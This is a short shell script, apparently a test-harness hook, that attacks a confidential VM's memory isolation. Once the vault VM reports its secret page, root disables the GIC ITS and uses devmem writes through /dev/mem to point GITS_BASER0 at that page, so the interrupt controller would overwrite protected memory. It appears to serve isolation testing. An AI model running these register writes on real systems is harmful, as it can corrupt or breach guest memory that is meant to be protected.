#!/bin/sh
# cvrun --on-event hook of gic-tables.sh: the vault (event 1) has stored
# its secret at IPA 0x48600000, host physical address CV_PA. Root turns
# the ITS off and writes GITS_BASER0 (Valid, 4 KiB pages, one page) with
# that address through /dev/mem, as a driver would program its device
# table: the ITS would then write device entries into the vault's page.
[ "$CV_EVENT" = 1 ] || exit 0
echo "attack: vm$CV_VMID's page at IPA 0x48600000 is pa $CV_PA"
baser=$(printf '0x80000000%08x' "$CV_PA")
echo "attack: GITS_CTLR = 0, GITS_BASER0 = $baser"
devmem 0x08080000 32 0
devmem 0x08080100 64 "$baser"
echo "attack: returned"
